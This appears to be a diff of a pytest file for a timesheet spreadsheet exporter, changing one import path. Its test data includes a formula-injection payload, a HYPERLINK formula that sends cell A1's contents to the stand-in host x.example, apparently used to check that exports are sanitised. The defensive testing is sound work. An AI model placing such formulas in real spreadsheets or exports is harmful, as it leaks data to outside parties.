@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
-from legalsec_desktop.export.timesheet_xlsx import SheetRow, SheetTitle, write_timesheet
+from legalsec_desktop.formats.timesheet_xlsx import SheetRow, SheetTitle, write_timesheet
 
 LEADS = {
     "=": '=HYPERLINK("http://x.example/?"&A1,"click")',
